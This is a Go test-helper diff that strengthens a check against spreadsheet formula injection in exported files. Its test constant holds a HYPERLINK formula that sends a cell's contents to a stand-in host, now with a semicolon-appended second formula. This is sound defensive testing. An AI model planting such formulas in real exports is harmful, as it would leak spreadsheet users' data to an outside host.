@@ -137,8 +137,8 @@ func hashOf(text string) string {
 	return "'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"
 }
 
-// Formula is a name that is one.
-const Formula = `=HYPERLINK("http://e.test/?"&A1)`
+// Formula is a name that is one, also for a spreadsheet that ends cells at semicolons.
+const Formula = `=HYPERLINK("http://e.test/?"&A1);=1+1`
 
 // CheckFormulas fails where the name Formula is a formula in a file that a spreadsheet reads, unless somebody wants it
 // as it is, or where a number is none any more.
@@ -161,11 +161,13 @@ func CheckFormulas(t *testing.T, name string, write func(render.Options) string)
 		if strings.HasPrefix(raw[i], Formula) {
 			found++
 		}
-		if strings.HasPrefix(cell, "=") {
-			t.Errorf("%s: the cell %q", name, cell)
+		for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
+			if strings.HasPrefix(part, "=") {
+				t.Errorf("%s: the cell %q", name, cell)
+			}
 		}
-		if bare, marked := strings.CutPrefix(cell, "'"); cell != raw[i] && (!marked || bare != raw[i]) ||
-			marked && plainNumber.MatchString(bare) {
+		if bare := strings.ReplaceAll(cell, "'", ""); cell != raw[i] &&
+			(bare != strings.ReplaceAll(raw[i], "'", "") || plainNumber.MatchString(bare)) {
 			t.Errorf("%s: %q became %q", name, raw[i], cell)
 		}
 	}
